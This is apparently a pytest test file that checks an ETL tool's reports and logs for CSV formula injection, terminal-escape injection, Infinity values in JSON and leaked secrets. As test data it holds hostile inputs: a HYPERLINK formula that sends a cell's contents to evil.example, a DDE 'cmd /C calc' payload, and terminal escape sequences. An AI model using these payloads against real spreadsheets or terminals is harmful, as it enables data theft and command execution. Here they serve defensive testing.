"""Issue 13, output: no formulas in CSV, no terminal escapes from room names or API messages,
no Infinity in JSON, no secret in anything any command prints."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import threading
import uuid
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from click.testing import CliRunner, Result
from conftest import PROJECT, TOKEN
from sqlalchemy.engine import Engine, make_url

from etl.cli import main
from etl.fake_api import generate_sessions
from etl.records import parse_session
from etl.report import render_csv
from etl.safe_text import visible
from etl.storage.reporting import COST_TOO_LARGE, report_rows
from etl.storage.schema import room_sessions, sync_failures, sync_runs
from etl.storage.sessions import write_batch

_BASE = generate_sessions(1, seed=13)[0]
ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07\x9b31m\u202e"


def store(engine: Engine, **fields: Any) -> dict[str, Any]:
    """Store one completed session as a list item (so its cost is final); `fields` override
    anything."""
    payload = {**_BASE, "id": str(uuid.uuid4()), "room_id": str(uuid.uuid4()), **fields}
    from datetime import UTC, datetime

    row = parse_session(payload, payload["id"])
    write_batch(engine, [row], datetime.now(UTC), listed={payload["id"]})
    return payload


def report(url: str, *args: str) -> Result:
    result = CliRunner().invoke(
        main, ["report", *args], env={"DATABASE_URL": url}, catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    return result


# --------------------------------------------------------------------------- CSV injection

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1",
    "\r=1",
]


def test_csv_cells_that_start_a_formula_are_neutralised(engine: Engine, migrated_url: str) -> None:
    stored = [
        store(engine, name=name, display_name=None, cost_in_dollars=float(n), status="=1+2")
        for n, name in enumerate(FORMULAS)
    ]
    plain = store(engine, name="Plain room", display_name=None, cost_in_dollars=-5.5)

    text = report(migrated_url, "--by", "room", "--format", "csv").stdout
    rows = {row["group"]: row for row in csv.DictReader(io.StringIO(text))}
    expected = {"'" + visible(f"{p['name']} ({p['room_id']})") for p in stored}
    expected.add(f"Plain room ({plain['room_id']})")
    assert set(rows) == expected
    assert rows[f"Plain room ({plain['room_id']})"]["cost_usd"] == "-5.5"  # still a number
    assert "\t" not in text and "\r" not in text

    by_status = report(migrated_url, "--by", "status", "--format", "csv").stdout
    statuses = {row["group"] for row in csv.DictReader(io.StringIO(by_status))}
    assert "'=1+2" in statuses and "=1+2" not in statuses


def test_csv_numbers_are_never_quoted() -> None:
    from etl.storage.reporting import ReportRow

    row = ReportRow("-1", -3, 0, 0, -60, 1, -0.25)
    lines = render_csv([row]).splitlines()
    assert lines[1] == "'-1,-3,0,0,-60,-60.0,-0.25,0,0,0,,,,,,,,"  # unknown bill columns empty


# --------------------------------------------------------------------------- terminal escapes


def test_room_names_reach_the_terminal_with_their_escapes_visible(
    engine: Engine, migrated_url: str
) -> None:
    hostile = "Lobby" + ESCAPES
    payload = store(engine, name=hostile, display_name=None, status="done" + ESCAPES)
    for args in (["--by", "room"], ["--by", "status"], ["--by", "room", "--format", "csv"]):
        out = report(migrated_url, *args).stdout
        assert "\x1b" not in out and "\x07" not in out and "\x9b" not in out
        assert "\u202e" not in out
        assert "\\x1b]0;owned\\x07" in out
    shown = report(migrated_url, "--by", "room", "--format", "json").stdout
    assert "\x1b" not in shown and "\x9b" not in shown and "\u202e" not in shown
    groups = [row["group"] for row in json.loads(shown)]
    assert any(group.startswith(hostile) for group in groups)  # JSON keeps the data exactly
    with engine.connect() as conn:
        stored = conn.execute(
            sa.select(room_sessions.c.name).where(room_sessions.c.id == payload["id"])
        ).scalar_one()
    assert stored == hostile  # the table keeps it verbatim


class _HostileApi(BaseHTTPRequestHandler):
    """Answers every request with a 400 whose message is full of terminal escapes."""

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        body = json.dumps({"errors": [{"message": "bad id" + ESCAPES + "\nroomsync: ok"}]})
        data = body.encode()
        self.send_response(400)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def hostile_api() -> Iterator[str]:
    server = ThreadingHTTPServer(("127.0.0.1", 0), _HostileApi)
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()
        thread.join(5)


def run_process(args: list[str], env: dict[str, str], cwd: Path | None = None) -> Any:
    full = {"PATH": os.environ.get("PATH", "/usr/bin:/bin"), **env}
    return subprocess.run(
        [sys.executable, "-m", "etl", *args],
        env=full,
        capture_output=True,
        text=True,
        timeout=120,
        cwd=cwd,
    )


def test_api_error_messages_are_shown_and_stored_with_visible_escapes(
    hostile_api: str, migrated_url: str, engine: Engine
) -> None:
    env = {
        "SIGNALWIRE_SPACE": hostile_api,
        "SIGNALWIRE_PROJECT_ID": PROJECT,
        "SIGNALWIRE_API_TOKEN": TOKEN,
        "DATABASE_URL": migrated_url,
    }
    sid = str(uuid.uuid4())
    for args in (["fetch", sid, "-v"], ["sync", "-v"]):
        done = run_process(args, env)
        assert done.returncode == 1, done.stderr
        output = done.stdout + done.stderr
        assert "\x1b" not in output and "\x07" not in output and "\x9b" not in output
        assert "\u202e" not in output
        assert "\\x1b]0;owned" in done.stderr
        # the API's newline cannot forge a line of our own
        assert not any(line.startswith("roomsync: ok") for line in done.stderr.splitlines())
    with engine.connect() as conn:
        errors = conn.execute(sa.select(sync_failures.c.error)).scalars().all()
        run_errors = conn.execute(sa.select(sync_runs.c.error)).scalars().all()
    assert errors and all("\x1b" not in e and "\\x1b" in e for e in errors)
    assert all("\x1b" not in e for e in run_errors if e)


# --------------------------------------------------------------------------- huge numbers


def test_a_cost_sum_beyond_a_double_is_an_error_for_its_row(
    engine: Engine, migrated_url: str
) -> None:
    room = str(uuid.uuid4())
    for _ in range(2):
        store(
            engine,
            room_id=room,
            name="Huge",
            display_name=None,
            start_time="2026-10-01T10:00:00Z",
            cost_in_dollars=1e308,
        )
    store(
        engine,
        name="Small",
        display_name=None,
        start_time="2026-10-02T10:00:00Z",
        cost_in_dollars=2.5,
    )

    rows = {row.name or row.group: row for row in report_rows(engine, "room")}
    assert rows["Huge"].cost_usd is None and rows["Huge"].note == COST_TOO_LARGE
    assert rows["Small"].cost_usd == 2.5 and rows["Small"].note is None

    def no_constants(name: str) -> Any:
        raise AssertionError(f"{name} in the JSON report")

    text = report(migrated_url, "--by", "day", "--format", "json").stdout
    days = {row["group"]: row for row in json.loads(text, parse_constant=no_constants)}
    assert days["2026-10-01"]["cost_usd"] is None
    assert days["2026-10-01"]["note"] == COST_TOO_LARGE
    assert days["2026-10-02"]["cost_usd"] == 2.5 and days["2026-10-02"]["note"] is None
    table = report(migrated_url, "--by", "room").stdout
    assert "inf" not in table.lower() and f"note: {COST_TOO_LARGE}" in table


# --------------------------------------------------------------------------- secrets


def _commands(tmp_path: Path, ids_file: Path, reachable: bool) -> list[list[str]]:
    """Every command; for a database that cannot be reached, those that connect to it."""
    connecting = [
        ["fetch", str(uuid.uuid4())],
        ["sync"],
        ["report"],
        ["db", "current"],
        ["db", "upgrade"],
        ["db", "downgrade", "base", "--yes"],
    ]
    if not reachable:
        return connecting
    return [
        *connecting,  # on a fresh database: not migrated yet, so errors
        ["fetch", "not-a-uuid"],
        ["backfill", str(tmp_path / "missing.txt")],
        ["db", "upgrade"],
        ["fetch", str(uuid.uuid4()), "-v"],  # the API answers 400 to everything
        ["backfill", str(ids_file)],
        ["sync", "-v"],
        ["report", "--format", "json"],
        ["db", "current"],
        ["db", "downgrade", "0003"],  # refused: no --yes
        ["db", "downgrade", "base", "--yes"],
    ]


def _output_of(args: list[str], env: dict[str, str], cwd: Path) -> str:
    """stdout + stderr of one command. Runs with `-v` are real processes, so that their log
    lines are caught as a user sees them; the rest run in-process (faster), with any
    exception left to fail the test."""
    if "-v" in args:
        done = run_process(args, env, cwd=cwd)
        return str(done.stdout + done.stderr)
    previous = os.getcwd()
    os.chdir(cwd)
    try:
        result = CliRunner().invoke(main, args, env=env, catch_exceptions=False)
    finally:
        os.chdir(previous)
    return result.output


def test_no_command_prints_the_token_or_the_database_password(
    db_url: str, tmp_path: Path, hostile_api: str
) -> None:
    """Every command, on its success and its error paths, and `-v`; a database URL with a
    password (the PostgreSQL case) and a wrong one, for the connection errors."""
    ids_file = tmp_path / "ids.txt"
    ids_file.write_text(f"{uuid.uuid4()}\n")
    password = make_url(db_url).password
    wrong = make_url(db_url).set(password="wr0ng-Pa55word") if password else None
    urls = [db_url, *([wrong.render_as_string(hide_password=False)] if wrong else [])]
    urls.append("postgresql://roomsync:cl0sed-Pa55@127.0.0.1:1/roomsync")  # nothing listens
    for url in urls:
        env = {
            "SIGNALWIRE_SPACE": hostile_api,
            "SIGNALWIRE_PROJECT_ID": PROJECT,
            "SIGNALWIRE_API_TOKEN": TOKEN,
            "DATABASE_URL": url,
        }
        secrets = [TOKEN, *(s for s in (make_url(url).password,) if s)]
        for args in _commands(tmp_path, ids_file, reachable=url == db_url):
            output = _output_of(args, env, tmp_path)
            assert "Traceback" not in output, (args, output)
            for secret in secrets:
                assert secret not in output, (args, url.split("@")[-1], output)


@pytest.mark.parametrize("backend", ["postgresql"])  # the backend whose URL has a password
def test_demo_does_not_print_the_database_password(db_url: str, tmp_path: Path) -> None:
    done = run_process(["demo", "--sessions", "12", "--database-url", db_url], {}, cwd=tmp_path)
    assert done.returncode == 0, done.stderr
    password = make_url(db_url).password
    assert password and password not in done.stdout + done.stderr
    assert "***" in done.stdout.splitlines()[-1]
